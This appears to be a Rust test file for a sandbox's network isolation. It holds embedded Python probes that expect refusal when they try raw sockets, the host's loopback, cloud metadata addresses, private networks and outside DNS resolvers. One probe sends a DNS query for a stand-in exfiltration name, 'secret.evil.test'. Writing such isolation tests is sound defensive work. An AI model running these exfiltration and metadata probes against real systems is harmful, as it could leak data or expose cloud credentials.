//! Out by the network: to the host, to other sessions, around the only way there is.

use crate::case::{Case, Places};

pub fn cases() -> Vec<Case> {
    [sockets(), addresses(), interfaces(), ways_out()].into_iter().flatten().collect()
}

fn sockets() -> Vec<Case> {
    vec![
        Case::new(
            "sockets of other families",
            "seccomp: socket families",
            r"
for family in range(3, 46):
    if family == 10: continue
    for kind in (1, 2, 3): refused(f'{family} {kind}', 'EPERM', socket.socket, family, kind, 0)
",
        ),
        Case::new(
            "AF_NETLINK, AF_PACKET, AF_VSOCK, AF_ALG",
            "seccomp: socket families",
            r"
for family, kind, protocol in ((16, 3, 0), (16, 3, 6), (16, 3, 12), (16, 3, 15), (17, 3, 0x300), (17, 2, 0x300), (40, 1, 0), (40, 2, 0), (38, 5, 0), (44, 3, 0)):
    refused(f'{family}', 'EPERM', socket.socket, family, kind, protocol)
refused('a pair', 'EPERM', socket.socketpair, 16, 3, 0)
",
        ),
        Case::new(
            "raw sockets, ICMP and rare protocols",
            "seccomp: socket protocols",
            r"
for family in (2, 10):
    for kind, protocol in ((3, 1), (3, 255), (2, 1), (2, 58), (1, 132), (1, 262), (2, 136), (6, 33), (3, 47)):
        refused(f'{family} {kind} {protocol}', 'EPERM', socket.socket, family, kind, protocol)
",
        ),
        Case::new(
            "the internet from a run",
            "seccomp: a run has Unix sockets only",
            r"
for family in (2, 10):
    for kind in (1, 2): refused(f'{family} {kind}', 'EPERM', socket.socket, family, kind)
",
        )
        .at(Places::Run),
        Case::new(
            "an abstract socket of the host",
            "network namespace",
            r"
refused('abstract', 'ECONNREFUSED EPERM', socket.socket(socket.AF_UNIX).connect, '\0' + planted['ABSTRACT'])
",
        ),
    ]
}

/// Programs of a session have sockets, and nobody at the other end.
fn addresses() -> Vec<Case> {
    vec![
        Case::new("the host's loopback", "network namespace", r"
port = int(planted['HOST_PORT'])
for family, host in ((2, '127.0.0.1'), (2, '0.0.0.0'), (2, '127.0.0.53'), (10, '::1'), (10, '::ffff:127.0.0.1')):
    s = socket.socket(family); s.settimeout(3)
    refused(host, 'ECONNREFUSED ENETUNREACH EADDRNOTAVAIL', s.connect, (host, port))
").at(Places::Session),
        Case::new("the host's own addresses", "network namespace: loopback only", r"
if not planted['HOST_ADDRESSES']: skip('the host has no address')
for host in planted['HOST_ADDRESSES'].split():
    s = socket.socket(10 if ':' in host else 2); s.settimeout(3)
    refused(host, 'ENETUNREACH EADDRNOTAVAIL', s.connect, (host, int(planted['HOST_PORT'])))
").at(Places::Session),
        Case::new("cloud metadata and private networks", "network namespace: loopback only", r"
for host in ('169.254.169.254', '169.254.170.2', '100.100.100.200', '10.0.0.1', '172.17.0.1', '192.168.0.1', '224.0.0.1', '255.255.255.255'):
    s = socket.socket(); s.settimeout(3)
    refused(host, 'ENETUNREACH', s.connect, (host, 80))
").at(Places::Session),
        Case::new("IPv6", "network namespace: loopback only", r"
for host in ('2001:db8::1', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe', 'fe80::1%lo', 'ff02::1', '2606:4700:4700::1111'):
    s = socket.socket(10); s.settimeout(3)
    refused(host, 'ENETUNREACH EADDRNOTAVAIL EINVAL EHOSTUNREACH', s.connect, (host, 80))
").at(Places::Session),
        Case::new("datagrams", "network namespace: loopback only", r"
for host in ['203.0.113.7', '255.255.255.255'] + [a for a in planted['HOST_ADDRESSES'].split() if ':' not in a]:
    s = socket.socket(2, 2)
    refused(host, 'ENETUNREACH EACCES', s.sendto, b'out', (host, int(planted['HOST_UDP'])))
# Nobody answers on loopback either; what arrives at the host's own socket is looked at outside.
socket.socket(2, 2).sendto(b'out', ('127.0.0.1', int(planted['HOST_UDP'])))
").at(Places::Session),
        Case::new("questions for names", "network namespace: loopback only", r"
for host in ('8.8.8.8', '1.1.1.1', '9.9.9.9'): refused(host, 'ENETUNREACH', socket.socket(2, 2).sendto, b'\1\2\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1', (host, 53))
try: found = socket.gethostbyname('secret.evil.test')
except OSError: found = None
holds(f'{found}', found is None)
").at(Places::Session),
        Case::steps("a port of another session", "network namespace", |world| {
            Box::pin(crate::steps::ports_of_others(world))
        }),
    ]
}

fn interfaces() -> Vec<Case> {
    vec![
        Case::new("addresses and routes of one's own", "capabilities: none", r"
import fcntl
s = socket.socket()
request = b'lo'.ljust(16, b'\0') + (2).to_bytes(2, 'little') + bytes(2) + bytes([10, 0, 0, 9]) + bytes(16)
for number in (0x8916, 0x8914, 0x8922, 0x8924, 0x890b): refused(hex(number), 'EPERM EOPNOTSUPP', fcntl.ioctl, s, number, request)
").at(Places::Session),
        Case::new("options of sockets that need rights", "capabilities: none", r"
for level, name, value in ((1, 36, 5), (1, 33, 1 << 26), (1, 32, 1 << 26), (0, 19, 1), (6, 31, 1)):
    refused(f'{level} {name}', 'EPERM ENOENT ENOPROTOOPT EINVAL', socket.socket().setsockopt, level, name, value)
").at(Places::Session),
        Case::new("a port below 1024", "network namespace; capabilities: none", r"
for port in (80, 443, 53, 22):
    refused(port, 'EACCES', socket.socket().bind, ('0.0.0.0', port))
    refused(f'v6 {port}', 'EACCES', socket.socket(10).bind, ('::', port))
").at(Places::Session),
    ]
}

fn ways_out() -> Vec<Case> {
    vec![
        Case::steps("the proxy, asked for what is not allowed", "egress: policy", |world| {
            Box::pin(crate::steps::egress_proxy(world))
        }),
        Case::steps(
            "names as letters to somebody outside",
            "egress: names are not asked for outside",
            |world| Box::pin(crate::steps::egress_names(world)),
        ),
        Case::steps("ports that lead nowhere", "network namespace: every address is loopback", |world| {
            Box::pin(crate::steps::egress_ports(world))
        }),
    ]
}
